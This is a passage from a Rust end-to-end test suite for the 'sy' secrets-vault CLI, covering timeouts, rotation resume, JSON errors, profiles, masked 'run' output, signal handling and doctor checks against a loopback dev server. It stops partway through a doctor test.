//! End-to-end tests of what operators rely on every day: time limits, interrupted rotations,
//! JSON errors, profiles that keep their TLS settings, what `run` hands its command, masked
//! output, suggestions, duplicate titles, `whoami`, `doctor`, safe env output and terminal
//! output, and profile permissions. Each runs the `sy` binary against `syvault-dev` over real
//! loopback sockets and checks the exit status and that standard error holds no secret.

mod common;

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{API_KEY, DB_PASSWORD, DB_USER, Vault, assert_clean, run};
use serde_json::Value;
use syvault_ureq::proto::record::RecordPayload;

/// A server that accepts connections and never answers.
fn hung_server() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("address"));
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().flatten() {
            held.push(stream);
        }
    });
    url
}

/// A copy of `client`'s credentials file pointing at `server`, without the TLS settings
/// `sy init` stored.
fn credentials_for(vault: &Vault, client: &common::Client<'_>, server: &str) -> std::path::PathBuf {
    let mut json = client.credentials_json();
    json["server"] = server.into();
    json.as_object_mut().unwrap().remove("tls");
    let path = vault.path("elsewhere.json");
    std::fs::write(&path, json.to_string()).unwrap();
    path
}

fn parse_json(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

// ---------------------------------------------------------------------------------------------
// time limits

#[test]
fn a_hung_server_ends_every_command_within_its_timeout_naming_the_server() {
    let vault = Vault::start();
    let client = vault.client();
    let hung = hung_server();
    let file = credentials_for(&vault, &client, &hung);
    let secret = client.credentials_json()["client_secret"]
        .as_str()
        .unwrap()
        .to_owned();
    for args in [
        vec![
            "--timeout",
            "1s",
            "read",
            "sy://Production/Database/field/password",
        ],
        vec!["--timeout", "1s", "secret", "list"],
        vec!["--timeout", "1s", "whoami"],
    ] {
        let started = Instant::now();
        let ran = run(
            vault.sy().env("SY_CREDENTIALS_FILE", &file).args(&args),
            None,
        )
        .fails(1, &[&secret]);
        let took = started.elapsed();
        assert!(took < Duration::from_secs(10), "{args:?} took {took:?}");
        assert!(
            ran.stderr
                .starts_with(&format!("sy: no answer from {hung} within 1 s")),
            "{ran:?}"
        );
        assert!(ran.stderr.contains("--timeout or SY_TIMEOUT"), "{ran:?}");
    }
    // SY_TIMEOUT sets it too, and JSON mode says `timeout`.
    let started = Instant::now();
    let ran = run(
        vault
            .sy()
            .env("SY_CREDENTIALS_FILE", &file)
            .env("SY_TIMEOUT", "700ms")
            .args([
                "read",
                "sy://Production/Database/field/password",
                "--format",
                "json",
            ]),
        None,
    );
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(started.elapsed() < Duration::from_secs(10));
    let error = parse_json(&ran.stderr);
    assert_eq!(error["error"]["kind"], "timeout", "{ran:?}");
    assert!(error["error"]["message"].as_str().unwrap().contains(&hung));

    // A bootstrap against it ends too, and writes nothing.
    let token = vault.new_token();
    let target = vault.path("never.json");
    let ran = run(
        vault
            .sy()
            .args([
                "init",
                "--timeout",
                "1s",
                "--server",
                &hung,
                "--token",
                "-",
                "--credentials-file",
            ])
            .arg(&target),
        Some(&format!("{token}\n")),
    )
    .fails(1, &[&token]);
    assert!(ran.stderr.contains(&hung), "{ran:?}");
    assert!(!target.exists());
    // A bad SY_TIMEOUT is a usage error.
    run(
        vault
            .sy()
            .env("SY_CREDENTIALS_FILE", &file)
            .env("SY_TIMEOUT", "soon")
            .args(["secret", "list"]),
        None,
    )
    .fails(2, &[]);
}

// ---------------------------------------------------------------------------------------------
// rotation

/// Starts `sy secret rotate` with piped stderr and returns it and the rotation id it printed.
#[cfg(unix)]
fn rotation_started(client: &common::Client<'_>, uid: &str) -> (std::process::Child, String) {
    let mut child = client
        .sy()
        .args(["secret", "rotate", uid])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    let id = line
        .strip_prefix("sy: rotation ")
        .and_then(|rest| rest.strip_suffix(" started\n"))
        .unwrap_or_else(|| panic!("the first line names the rotation: {line:?}"))
        .to_owned();
    child.stderr = Some(stderr.into_inner());
    (child, id)
}

#[cfg(unix)]
#[test]
fn an_interrupted_rotation_says_how_to_resume_it_and_resuming_completes_it() {
    use rustix::process::{Pid, Signal, kill_process};

    let vault = Vault::start_with(false, Duration::from_millis(700));
    let client = vault.client();
    let uid = vault.database.as_str();
    for (signal, code, name) in [(Signal::INT, 130, "SIGINT"), (Signal::TERM, 143, "SIGTERM")] {
        let (mut child, id) = rotation_started(&client, uid);
        std::thread::sleep(Duration::from_millis(200));
        let pid = Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
        kill_process(pid, signal).unwrap();
        let mut rest = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut rest)
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(code), "{name}: {rest}");
        let resume = format!("sy secret rotate {uid} --resume {id}");
        assert!(rest.contains(name) && rest.contains(&resume), "{rest}");
        assert!(rest.contains("goes on on the server"), "{rest}");
        assert_clean(&rest, &[]);

        let ran = client.ok(&["secret", "rotate", uid, "--resume", &id]);
        assert!(
            ran.stdout.contains(&format!("rotation {id} completed")),
            "{ran:?}"
        );
        assert_eq!(ran.stderr, format!("sy: waiting for rotation {id}\n"));
    }
}

#[test]
fn a_rotation_already_running_is_adopted_and_said_so() {
    let vault = Vault::start_with(false, Duration::from_millis(300));
    let client = vault.client();
    let uid = vault.database.as_str();
    let started = client.ok(&["secret", "rotate", uid, "--no-wait", "--format", "json"]);
    let started = parse_json(&started.stdout);
    assert_eq!(started["status"], "started");
    assert_eq!(started["adopted"], false);
    assert_eq!(started["uid"], uid);
    assert!(started["revision"].is_null());
    let id = started["rotation_id"].as_str().unwrap().to_owned();

    let ran = client.ok(&["secret", "rotate", uid]);
    assert!(
        ran.stderr
            .contains(&format!("rotation {id} was already running")),
        "{ran:?}"
    );
    assert!(
        ran.stdout.contains(&format!("rotation {id} completed")),
        "{ran:?}"
    );

    let ran = client.ok(&["secret", "rotate", uid, "--reveal", "--format", "json"]);
    let done = parse_json(&ran.stdout);
    assert_eq!(done["status"], "completed");
    assert_eq!(done["adopted"], false);
    assert_eq!(done["revision"], 3);
    let new = vault.admin.read_secret(vault.database).unwrap();
    assert_eq!(
        done["fields"]["password"],
        new.fields.get("password").unwrap().expose()
    );
    assert!(
        ran.stderr.is_empty(),
        "JSON mode prints no progress: {ran:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// JSON

#[test]
fn json_results_and_errors_have_their_documented_shapes() {
    let vault = Vault::start();
    let client = vault.client();
    let read = parse_json(
        &client
            .ok(&[
                "read",
                "sy://Production/Database/field/password",
                "--format",
                "json",
            ])
            .stdout,
    );
    assert_eq!(read["reference"], "sy://Production/Database/field/password");
    assert_eq!(read["value"], DB_PASSWORD);

    let created = parse_json(
        &client
            .ok(&[
                "secret",
                "create",
                "--folder",
                "Production",
                "--title",
                "Cache",
                "--field",
                "password=x",
                "--format",
                "json",
            ])
            .stdout,
    );
    assert_eq!(created["title"], "Cache");
    assert_eq!(created["folder"], "Production");
    assert_eq!(created["folder_id"], vault.production.to_string());
    assert_eq!(created["revision"], 1);
    assert!(created["uid"].as_str().unwrap().len() == 12);
    assert!(created["type"].is_string());
    let uid = created["uid"].as_str().unwrap();
    let got = parse_json(
        &client
            .ok(&["secret", "get", uid, "--format", "json"])
            .stdout,
    );
    let keys: Vec<&str> = got
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        [
            "fields",
            "folder_id",
            "notes",
            "revision",
            "title",
            "type",
            "uid"
        ]
    );
    assert_eq!(got["fields"], serde_json::json!({"password": "x"}));
    assert_eq!(got["folder_id"], vault.production.to_string());
    assert_eq!(got["uid"], uid);
    // A rotation's outcome has the new values only when asked for.
    let database = vault.database.to_string();
    let rotated = parse_json(
        &client
            .ok(&["secret", "rotate", &database, "--format", "json"])
            .stdout,
    );
    assert_eq!(rotated["uid"], database.as_str());
    assert_eq!(rotated["status"], "completed");
    assert!(rotated.get("fields").is_none(), "{rotated}");

    // An error: one JSON object on stderr, nothing on stdout.
    let ran = client.run(&["read", "sy://Production/Nope/field/x", "--format", "json"]);
    assert_eq!(ran.code, Some(1));
    assert!(ran.stdout.is_empty());
    let error = parse_json(&ran.stderr);
    assert_eq!(error["error"]["kind"], "not_found", "{ran:?}");
    assert_eq!(error["error"]["exit_code"], 1);
    assert!(error["error"]["message"].as_str().unwrap().contains("Nope"));
    // Bad input, from the grammar too.
    let ran = client.run(&["read", "Production/Database", "--format", "json"]);
    assert_eq!(ran.code, Some(2));
    assert_eq!(parse_json(&ran.stderr)["error"]["kind"], "usage");
    let ran = client.run(&["secret", "list", "--format", "json", "--bogus"]);
    assert_eq!(ran.code, Some(2));
    let error = parse_json(&ran.stderr);
    assert_eq!(error["error"]["kind"], "usage");
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap()
            .contains("--bogus")
    );
    // Without --format json, errors stay lines.
    let ran = client
        .run(&["read", "sy://Production/Nope/field/x"])
        .fails(1, &[]);
    assert!(ran.stderr.starts_with("sy: "));
}

// ---------------------------------------------------------------------------------------------
// profiles

#[test]
fn a_profile_keeps_its_ca_and_can_be_listed_shown_and_removed() {
    let vault = Vault::start_tls();
    let ca = vault.ca_file();
    let token = vault.new_token();
    run(
        vault
            .sy()
            .args([
                "init",
                "--profile",
                "tls",
                "--server",
                &vault.url(),
                "--token",
                "-",
                "--ca-file",
            ])
            .arg(&ca),
        Some(&format!("{token}\n")),
    )
    .success();
    // No --ca-file, no SY_CA_CERT: the profile remembers it.
    let listed = run(
        vault.sy().args(["--profile", "tls", "secret", "list"]),
        None,
    )
    .success();
    assert!(listed.stdout.contains("Stripe API Key"), "{listed:?}");
    let read = run(
        vault.sy().env("SY_PROFILE", "tls").args([
            "read",
            "-n",
            "sy://Production/Stripe API Key/field/api_key",
        ]),
        None,
    )
    .success();
    assert_eq!(read.stdout, API_KEY);

    let profiles = parse_json(
        &run(
            vault.sy().args(["profile", "list", "--format", "json"]),
            None,
        )
        .success()
        .stdout,
    );
    assert_eq!(profiles.as_array().unwrap().len(), 1);
    let profile = &profiles[0];
    assert_eq!(profile["name"], "tls");
    assert_eq!(profile["server"], vault.url());
    assert_eq!(profile["current"], false);
    assert_eq!(profile["ca_file"], ca.display().to_string());
    assert!(profile.get("client_secret").is_none());
    let shown = run(vault.sy().args(["profile", "show", "tls"]), None).success();
    assert!(
        shown.stdout.contains(&ca.display().to_string()),
        "{shown:?}"
    );
    let stored: Value =
        serde_json::from_slice(&std::fs::read(vault.path("config/syvault/tls.json")).unwrap())
            .unwrap();
    let secret = stored["client_secret"].as_str().unwrap();
    assert_clean(&shown.stdout, &[secret]);
    let table = run(
        vault.sy().args(["--profile", "tls", "profile", "list"]),
        None,
    )
    .success();
    assert!(
        table
            .stdout
            .lines()
            .any(|l| l.starts_with('*') && l.contains("tls")),
        "{table:?}"
    );

    // Removing asks for --yes where nobody can be asked.
    run(vault.sy().args(["profile", "remove", "tls"]), None).fails(2, &[secret]);
    let removed = run(vault.sy().args(["profile", "remove", "tls", "--yes"]), None).success();
    assert!(removed.stdout.contains("removed"), "{removed:?}");
    assert!(!vault.path("config/syvault/tls.json").exists());
    run(vault.sy().args(["profile", "show", "tls"]), None).fails(1, &[]);
}

#[cfg(unix)]
#[test]
fn a_profile_others_can_write_is_refused_with_the_fix() {
    use std::os::unix::fs::PermissionsExt as _;

    let vault = Vault::start();
    let token = vault.new_token();
    run(
        vault
            .sy()
            .args(["init", "--server", &vault.url(), "--token", "-"]),
        Some(&format!("{token}\n")),
    )
    .success();
    let dir = vault.path("config/syvault");
    let file = dir.join("default.json");
    let reference = "sy://Production/Database/field/password";
    run(vault.sy().args(["read", reference]), None).success();

    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    let ran = run(vault.sy().args(["read", reference]), None).fails(2, &[]);
    assert!(ran.stderr.contains("writable by other users"), "{ran:?}");
    assert!(
        ran.stderr.contains(&format!("chmod 700 {}", dir.display())),
        "{ran:?}"
    );
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();

    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
    let ran = run(vault.sy().args(["read", reference]), None).fails(2, &[]);
    assert!(
        ran.stderr
            .contains(&format!("chmod 600 {}", file.display())),
        "{ran:?}"
    );
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let ran = run(vault.sy().args(["read", reference]), None).success();
    assert_eq!(ran.stdout, format!("{DB_PASSWORD}\n"));
}

#[test]
fn sy_server_alone_says_what_is_missing() {
    let vault = Vault::start();
    let ran = run(
        vault
            .sy()
            .env("SY_SERVER", vault.url())
            .args(["read", "sy://Production/Database/field/password"]),
        None,
    )
    .fails(2, &[]);
    assert!(
        ran.stderr
            .contains("SY_SERVER is set but SY_CLIENT_ID and SY_CLIENT_SECRET are not"),
        "{ran:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// run

#[cfg(unix)]
#[test]
fn run_keeps_sys_credentials_from_the_command() {
    let vault = Vault::start();
    let client = vault.client();
    let script = r#"printf '%s|%s|%s' "${SY_CREDENTIALS_FILE-unset}" "${SY_CLIENT_SECRET-unset}" "$DB_PASSWORD""#;
    let ran = run(
        client
            .sy()
            .env("SY_CLIENT_SECRET", "inherited-secret")
            .env("DB_PASSWORD", "sy://Production/Database/field/password")
            .args(["run", "--", "sh", "-c", script]),
        None,
    )
    .success();
    assert_eq!(ran.stdout, format!("unset|unset|{DB_PASSWORD}"));
    let ran = run(
        client
            .sy()
            .env("DB_PASSWORD", "sy://Production/Database/field/password")
            .args(["run", "--pass-credentials", "--", "sh", "-c", script]),
        None,
    )
    .success();
    assert_eq!(
        ran.stdout,
        format!("{}|unset|{DB_PASSWORD}", client.file.display())
    );
}

#[cfg(unix)]
#[test]
fn run_mask_conceals_values_split_across_writes_and_keeps_the_status() {
    let vault = Vault::start();
    let client = vault.client();
    let (head, tail) = DB_PASSWORD.split_at(7);
    let script = format!(
        r#"printf 'password=%s\n' "$DB_PASSWORD"; printf 'key=%s\n' "$KEY" >&2; printf '%s' '{head}'; sleep 0.3; printf '%s\n' '{tail}'; printf 'user=%s\n' "$USER_NAME"; exit 3"#
    );
    let ran = run(
        client
            .sy()
            .env("DB_PASSWORD", "sy://Production/Database/field/password")
            .env("KEY", "sy://Production/Stripe API Key/field/api_key")
            .env("USER_NAME", "sy://Production/Database/field/username")
            .args(["run", "--mask", "--", "sh", "-c", &script]),
        None,
    );
    assert_eq!(ran.code, Some(3), "{ran:?}");
    assert_eq!(
        ran.stdout,
        "password=<concealed by sy>\n<concealed by sy>\nuser=<concealed by sy>\n"
    );
    assert_eq!(ran.stderr, "key=<concealed by sy>\n");
    assert_clean(&ran.stdout, &[DB_USER]);
}

/// `sy run --mask -- sh -c SCRIPT`, its input closed.
#[cfg(unix)]
fn run_masked(mut sy: Command, script: &str) -> Command {
    sy.args(["run", "--mask", "--", "sh", "-c", script])
        .stdin(Stdio::null());
    sy
}

/// Starts `command` with its output piped, and reads the first line of its standard output.
#[cfg(unix)]
fn started(
    mut command: Command,
) -> (
    std::process::Child,
    BufReader<std::process::ChildStdout>,
    String,
) {
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    (child, stdout, line)
}

/// A process a command left behind, which wrote its id to this file: killed when the test
/// ends, whatever its outcome.
#[cfg(unix)]
struct LeftBehind(std::path::PathBuf);

#[cfg(unix)]
impl Drop for LeftBehind {
    fn drop(&mut self) {
        if let Some(pid) = std::fs::read_to_string(&self.0)
            .ok()
            .and_then(|pid| pid.trim().parse::<i32>().ok())
            .and_then(rustix::process::Pid::from_raw)
        {
            let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
        }
    }
}

#[cfg(unix)]
#[test]
fn run_mask_passes_signals_on_and_ends_as_the_command_did() {
    use std::os::unix::process::ExitStatusExt as _;

    use rustix::process::{Pid, Signal, kill_process};

    let vault = Vault::start();
    let (mut child, mut stdout, line) = started(run_masked(
        vault.sy(),
        r"trap 'echo got TERM; exit 7' TERM; echo ready; while :; do sleep 0.05; done",
    ));
    assert_eq!(line, "ready\n");
    let pid = Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    kill_process(pid, Signal::TERM).unwrap();
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "got TERM\n");
    assert_eq!(child.wait().unwrap().code(), Some(7));

    // A command killed by a signal: sy ends by the same signal.
    let status = run_masked(vault.sy(), "kill -KILL $$")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert_eq!(
        status.signal().or(status.code().map(|c| c - 128)),
        Some(9),
        "{status:?}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn run_mask_does_not_pass_on_a_ctrl_c_the_terminal_sent_the_command_too() {
    use std::os::unix::ffi::OsStrExt as _;
    use std::os::unix::fs::OpenOptionsExt as _;

    use rustix::fs::OFlags;
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};

    let vault = Vault::start();
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap();
    let terminal = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(i32::try_from(OFlags::NOCTTY.bits()).unwrap())
        .open(std::ffi::OsStr::from_bytes(name.as_bytes()))
        .unwrap();
    // The command counts the SIGINTs it gets (Perl's handlers run once per signal delivered),
    // and reports a second after the first.
    let mut sy = vault.sy();
    sy.args([
        "run",
        "--mask",
        "--",
        "perl",
        "-e",
        r#"$| = 1; my $n = 0; $SIG{INT} = sub { $n++ }; print "ready\n"; sleep 1 until $n; sleep 1; print "$n\n""#,
    ]);
    // sy leads a session whose terminal is this one, as under an interactive shell, with the
    // command in its foreground process group.
    let mut command = Command::new("setsid");
    command
        .arg("--ctty")
        .arg(sy.get_program())
        .args(sy.get_args())
        .stdin(terminal);
    for (name, value) in sy.get_envs() {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    let (mut child, mut stdout, line) = started(command);
    assert_eq!(line, "ready\n");
    // Ctrl-C: the terminal's driver sends SIGINT to sy and to the command alike.
    rustix::io::write(&master, b"\x03").unwrap();
    let mut rest = String::new();
    stdout.read_to_string(&mut rest).unwrap();
    assert_eq!(rest, "1\n", "the command got the Ctrl-C more than once");
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[cfg(unix)]
#[test]
fn run_mask_ends_as_soon_as_the_command_and_its_output_end() {
    let vault = Vault::start();
    let (mut child, _, line) = started(run_masked(vault.sy(), "echo done; exit 3"));
    assert_eq!(line, "done\n");
    let ended = Instant::now();
    let status = child.wait().unwrap();
    let waited = ended.elapsed();
    assert_eq!(status.code(), Some(3), "{status:?}");
    // The grace for leftover output (two seconds) is for output still open, not a delay.
    assert!(waited < Duration::from_millis(1500), "sy waited {waited:?}");
}

/// Waits until sy has reaped the command whose process id it printed: its wait for the
/// output has begun.
#[cfg(target_os = "linux")]
fn until_reaped(command: &str) {
    let reaped = Instant::now() + Duration::from_secs(30);
    while std::path::Path::new("/proc").join(command).exists() && Instant::now() < reaped {
        std::thread::sleep(Duration::from_millis(5));
    }
}

#[cfg(target_os = "linux")]
#[test]
fn run_mask_writes_all_the_output_to_a_reader_that_pauses_after_the_command_ended() {
    // When the command ends, part of its output is still in sy's hands (in the pipe from the
    // command, and in a write to a reader that takes its time, a pager say): sy waits for it,
    // however long the reader pauses and however quickly the other stream ends.
    const SIZE: usize = 120_000;
    let vault = Vault::start();
    let (mut child, mut stdout, line) = started(run_masked(
        vault.sy(),
        &format!("echo $$; yes sy | head -c {SIZE}"),
    ));
    until_reaped(line.trim());
    std::thread::sleep(Duration::from_millis(2500));
    let mut rest = Vec::new();
    stdout.read_to_end(&mut rest).unwrap();
    assert_eq!(rest.len(), SIZE);
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[cfg(target_os = "linux")]
#[test]
fn run_mask_stops_passing_signals_on_once_the_command_ended_and_a_signal_ends_the_wait() {
    use rustix::process::{Pid, Signal, kill_process};

    let vault = Vault::start();
    // The command ends at once with 5, leaving behind a process that holds its output open
    // for a minute; sy then waits up to two seconds for more output.
    let left_behind = LeftBehind(vault.path("left-behind-too.pid"));
    let script = format!(
        "sleep 60 & echo $! > '{}'; echo $$; exit 5",
        left_behind.0.display()
    );
    let (mut child, _, line) = started(run_masked(vault.sy(), &script));
    // Once sy has reaped the command, a SIGTERM to sy is not passed on to a process id that
    // may belong to another process by now: it ends sy's wait, and sy ends as the command did.
    until_reaped(line.trim());
    let sy = Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    // A resize or a signal of the command's own does not end the wait.
    kill_process(sy, Signal::WINCH).unwrap();
    kill_process(sy, Signal::USR1).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    assert!(child.try_wait().unwrap().is_none(), "sy ended early");
    let signalled = Instant::now();
    kill_process(sy, Signal::TERM).unwrap();
    let status = child.wait().unwrap();
    let waited = signalled.elapsed();
    assert_eq!(status.code(), Some(5), "{status:?}");
    // Passed on (or ignored), the signal would leave sy waiting out the two seconds.
    assert!(
        waited < Duration::from_millis(1500),
        "sy went on waiting {waited:?}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn run_mask_ends_with_128_and_the_signal_when_it_cannot_end_by_it() {
    // A real-time signal (SIGRTMIN + 6) has no default action sy can take on itself: it ends
    // with the status a shell reports for a command killed by it.
    let vault = Vault::start();
    let ran = run(&mut run_masked(vault.sy(), "kill -40 $$"), None);
    assert_eq!(ran.code, Some(128 + 40), "{ran:?}");
}

#[cfg(unix)]
#[test]
fn run_mask_keeps_output_of_what_the_command_left_behind_while_it_comes_but_not_an_idle_pipe() {
    let vault = Vault::start();
    // The command ends at once; the process it left behind goes on writing, for longer than
    // the grace but never idle that long.
    let ran = run(
        &mut run_masked(
            vault.sy(),
            "(for i in 1 2 3 4 5 6; do sleep 0.5; echo late $i; done) & echo early; exit 4",
        ),
        None,
    );
    assert_eq!(ran.code, Some(4), "{ran:?}");
    assert_eq!(
        ran.stdout,
        "early\nlate 1\nlate 2\nlate 3\nlate 4\nlate 5\nlate 6\n"
    );

    // One that holds the output open for long does not hold sy.
    let left_behind = LeftBehind(vault.path("left-behind.pid"));
    let script = format!(
        "sleep 60 & echo $! > '{}'; echo early",
        left_behind.0.display()
    );
    let started = Instant::now();
    let ran = run(&mut run_masked(vault.sy(), &script), None).success();
    let took = started.elapsed();
    assert_eq!(ran.stdout, "early\n");
    assert!(took < Duration::from_secs(30), "sy waited {took:?}");
}

// ---------------------------------------------------------------------------------------------
// references

#[test]
fn misses_suggest_the_closest_names_and_never_a_value() {
    let vault = Vault::start();
    let client = vault.client();
    let ran = client
        .run(&["read", "sy://Prodution/Database/field/password"])
        .fails(1, &[]);
    assert!(
        ran.stderr.contains("did you mean `Production/Database`?"),
        "{ran:?}"
    );
    let ran = client
        .run(&["read", "sy://Production/Databse/field/password"])
        .fails(1, &[]);
    assert!(
        ran.stderr.contains("did you mean `Production/Database`?"),
        "{ran:?}"
    );
    let ran = client
        .run(&["read", "sy://Production/Database/field/pasword"])
        .fails(1, &[DB_USER]);
    assert!(ran.stderr.contains("did you mean `password`?"), "{ran:?}");
    assert!(
        ran.stderr.contains("`username`"),
        "the fields are listed: {ran:?}"
    );
    // In `run`, per variable.
    let ran = run(
        client
            .sy()
            .env("DB", "sy://Production/Databse/field/password")
            .args(["run", "--", "true"]),
        None,
    )
    .fails(1, &[]);
    assert!(
        ran.stderr.starts_with("sy: DB: no record matches"),
        "{ran:?}"
    );
    assert!(ran.stderr.contains("did you mean"), "{ran:?}");
    // Nothing close: no suggestion.
    let ran = client
        .run(&["read", "sy://Production/Zzzzzzzzzz/title"])
        .fails(1, &[]);
    assert!(!ran.stderr.contains("did you mean"), "{ran:?}");
}

#[test]
fn secret_get_takes_a_uid_a_path_or_folder_and_title() {
    let vault = Vault::start();
    let client = vault.client();
    let uid = vault.database.as_str();
    for args in [
        vec!["secret", "get", uid, "--field", "password"],
        vec![
            "secret",
            "get",
            "sy://Production/Database",
            "--field",
            "password",
        ],
        vec![
            "secret",
            "get",
            "--folder",
            "Production",
            "--title",
            "Database",
            "--field",
            "password",
        ],
        vec![
            "secret", "get", "--title", "Database", "--field", "password",
        ],
    ] {
        let ran = client.ok(&args);
        assert_eq!(ran.stdout, format!("{DB_PASSWORD}\n"), "{args:?}");
    }
    // A title where a UID goes: bad input, pointing at the way to name it.
    let ran = client.run(&["secret", "get", "Database"]).fails(2, &[]);
    assert!(ran.stderr.contains("is not a secret UID"), "{ran:?}");
    assert!(ran.stderr.contains("sy://Production/Database"), "{ran:?}");
    let ran = client
        .run(&[
            "secret",
            "get",
            "--folder",
            "Production",
            "--title",
            "Databse",
        ])
        .fails(1, &[]);
    assert!(ran.stderr.contains("did you mean `Database`?"), "{ran:?}");
    let ran = client
        .run(&["secret", "get", uid, "--field", "pasword"])
        .fails(1, &[DB_USER]);
    assert!(ran.stderr.contains("did you mean `password`?"), "{ran:?}");
}

#[test]
fn a_duplicate_title_is_refused_unless_allowed() {
    let vault = Vault::start();
    let client = vault.client();
    let stats = vault.stats();
    let create = [
        "secret",
        "create",
        "--folder",
        "Production",
        "--title",
        "Database",
        "--field",
        "password=second-value-77",
    ];
    let ran = client.run(&create).fails(1, &["second-value-77"]);
    assert!(ran.stderr.contains("already exists"), "{ran:?}");
    assert!(ran.stderr.contains("--allow-duplicate-title"), "{ran:?}");
    assert_eq!(
        stats.count("POST", "/api/sm/v1/secrets"),
        0,
        "nothing was created"
    );
    // Another folder may have the title.
    client.ok(&[
        "secret",
        "create",
        "--folder",
        "Production",
        "--title",
        "Database 2",
    ]);
    let mut allowed = create.to_vec();
    allowed.push("--allow-duplicate-title");
    client.ok(&allowed);
    // Now a reference by title is ambiguous, and says how to name each.
    let ran = client
        .run(&["read", "sy://Production/Database/field/password"])
        .fails(1, &[DB_PASSWORD, "second-value-77"]);
    assert!(ran.stderr.contains("matches several records"), "{ran:?}");
    assert!(ran.stderr.contains(vault.database.as_str()), "{ran:?}");
}

// ---------------------------------------------------------------------------------------------
// whoami, doctor

#[test]
fn whoami_names_the_server_client_and_folders() {
    let vault = Vault::start();
    let client = vault.client();
    let id = client.credentials_json()["client_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let table = client.ok(&["whoami"]);
    assert!(
        table.stdout.contains(&vault.url()) && table.stdout.contains(&id),
        "{table:?}"
    );
    assert!(table.stdout.contains("Archive") && table.stdout.contains("read_write"));
    let json = parse_json(&client.ok(&["whoami", "--format", "json"]).stdout);
    assert_eq!(json["server"], vault.url());
    assert_eq!(json["client_id"], id);
    assert_eq!(json["credentials"], client.file.display().to_string());
    assert_eq!(json["folders"][0]["path"], "Archive");
    assert_eq!(json["folders"][0]["access"], "read");
    assert_eq!(json["folders"][1]["path"], "Production");
    assert_eq!(json["folders"][1]["access"], "read_write");
    assert_eq!(
        json["folders"][1]["folder_id"],
        vault.production.to_string()
    );
}

/// The checks of a `doctor --format json` run, by name.
fn doctor(command: &mut Command) -> (Option<i32>, Value, String) {
    let ran = run(command.args(["doctor", "--format", "json"]), None);
    let report = parse_json(&ran.stdout);
    (ran.code, report, ran.stderr)
}

fn status<'a>(report: &'a Value, check: &str) -> &'a Value {
    &report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == check)
        .unwrap_or_else(|| panic!("no {check} check: {report}"))["status"]
}

#[test]
fn doctor_passes_a_healthy_setup_and_fails_a_broken_one_with_fixes() {
    let vault = Vault::start_tls();
    let client = vault.client();
    let secret = client.credentials_json()["client_secret"]
        .as_str()
        .unwrap()
        .to_owned();
    let (code, report, stderr) = doctor(&mut client.sy());
    assert_eq!(code, Some(0), "{report} {stderr}");
    assert_eq!(report["ok"], true);
    for check in ["credentials", "server", "tls", "clock", "token"] {
        assert_eq!(status(&report, check), "ok", "{check}: {report}");
    }
    assert_eq!(status(&report, "agent"), "skip");
    assert_clean(&report.to_string(), &[&secret]);
    let text = run(client.sy().arg("doctor"), None).success();
    assert!(
        text.stdout
            .lines()
            .all(|l| l.starts_with("ok ") || l.starts_with("skip ")),
        "{text:?}"
    );

    // Without the CA (neither given nor stored), TLS fails and says what to do.
    let untrusted = credentials_for(&vault, &client, &vault.url());
    let (code, report, stderr) = doctor(vault.sy().env("SY_CREDENTIALS_FILE", &untrusted));
    assert_eq!(code, Some(1));
    assert_eq!(status(&report, "tls"), "fail", "{report}");
    let tls = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == "tls")
        .unwrap();
    assert!(tls["fix"].as_str().unwrap().contains("--ca-file"), "{tls}");
    assert_eq!(parse_json(&stderr)["error"]["kind"], "doctor");

    // A server that is down, and a credentials file others can read.
    let file = vault.path("down.json");
    std::fs::copy(
        credentials_for(&vault, &client, "https://127.0.0.1:9"),
        &file,
    )
    .unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
